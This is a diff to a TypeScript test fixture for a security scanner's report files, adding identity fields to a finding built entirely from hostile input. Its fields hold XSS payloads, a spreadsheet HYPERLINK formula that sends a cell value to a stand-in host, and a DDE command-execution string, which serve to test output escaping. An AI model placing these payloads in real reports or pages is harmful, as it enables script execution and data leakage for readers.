@@ -97,13 +97,14 @@ describe('the report files of a run', () => {
 /** One finding whose every field came from a hostile peer. */
 function hostile(): Results {
   const f: Finding = {
-    id: 'tls.protocols@evil#p.feature:1', checkId: 'tls.protocols', target: 'evil', targetKind: 'tls', status: 'failed', verdict: 'failed',
+    id: 'tls.protocols@evil#p.feature:1', fingerprint: '0'.repeat(64), scenarioKey: 'k', severity: 'high', checkId: 'tls.protocols', target: 'evil', targetKind: 'tls', status: 'failed', verdict: 'failed',
     policy: 'p.feature', scenario: 'Only <b>modern</b> TLS', controls: ['soc2:CC6.7'], summary: '=HYPERLINK("http://x.test/?"&A1) <script>alert(1)</script> | pipe',
     params: {}, expected: { a: '<img src=x onerror=alert(1)>' }, actual: { banner: '+cmd|" /C calc"!A0' }, observed: {},
     evidence: [{ kind: 'banner', description: '</pre><script>alert(2)</script>', data: '</pre><iframe src="http://x.test/">' }], observedAt: '2026-12-01T00:00:00Z',
   }
   return {
     schemaVersion: 2,
+    identityVersion: 1,
     run: { id: 'r', startedAt: '2026-12-01T00:00:00Z', finishedAt: '2026-12-01T00:00:01Z', vigilVersion: 'v', nodeVersion: 'n', host: 'h', operator: 'o', inventory: 'i', features: [] },
     totals: { passed: 0, failed: 1, error: 0, 'not-applicable': 0, skipped: 0, waived: 0 }, population: { tls: { planned: 1, observed: 1 } }, findings: [f], problems: [],
   }
